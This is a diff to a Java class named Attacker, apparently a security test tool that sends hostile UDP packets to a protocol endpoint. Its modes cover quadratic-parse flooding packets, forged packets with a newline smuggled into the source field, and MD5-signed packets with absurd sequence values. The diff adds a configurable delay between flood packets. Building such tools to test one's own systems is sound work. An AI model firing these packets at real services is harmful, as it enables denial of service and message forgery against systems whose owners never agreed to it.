@@ -34,7 +34,7 @@ import java.util.concurrent.locks.LockSupport;
  * mode prints {@code sent N} when it is done; it never sends anywhere but the address it is given.
  *
  * <pre>
- *   quadratic DEST PORT COUNT              64 KB classic packets of 21,834 lines "a=" (the quadratic parse)
+ *   quadratic DEST PORT COUNT [GAP_MS]     64 KB classic packets of 21,834 lines "a=" (the quadratic parse), GAP_MS apart
  *   forged DEST PORT COUNT SRC             wrong-key packets whose src field is SRC (\n written as %0a)
  *   signed DEST PORT COUNT KEY SRC KIND    packets signed with the md5 KEY as node SRC: KIND absurd (gen, seq, dt
  *                                          all ffffffffffffff) or badseq (seq "zz")
@@ -53,7 +53,15 @@ public final class Attacker {
         String mode = args[0];
         long sent;
         switch (mode) {
-            case "quadratic" -> sent = udp(args[1], Integer.parseInt(args[2]), Integer.parseInt(args[3]), i -> quadratic());
+            case "quadratic" -> {
+                long gap = args.length > 4 ? Long.parseLong(args[4]) : 0;
+                sent = udp(args[1], Integer.parseInt(args[2]), Integer.parseInt(args[3]), i -> {
+                    if (i > 0 && gap > 0) {
+                        LockSupport.parkNanos(gap * 1_000_000);
+                    }
+                    return quadratic();
+                });
+            }
             case "forged" -> {
                 String src = args[4].replace("%0a", "\n");
                 sent = udp(args[1], Integer.parseInt(args[2]), Integer.parseInt(args[3]), i -> forged(src));
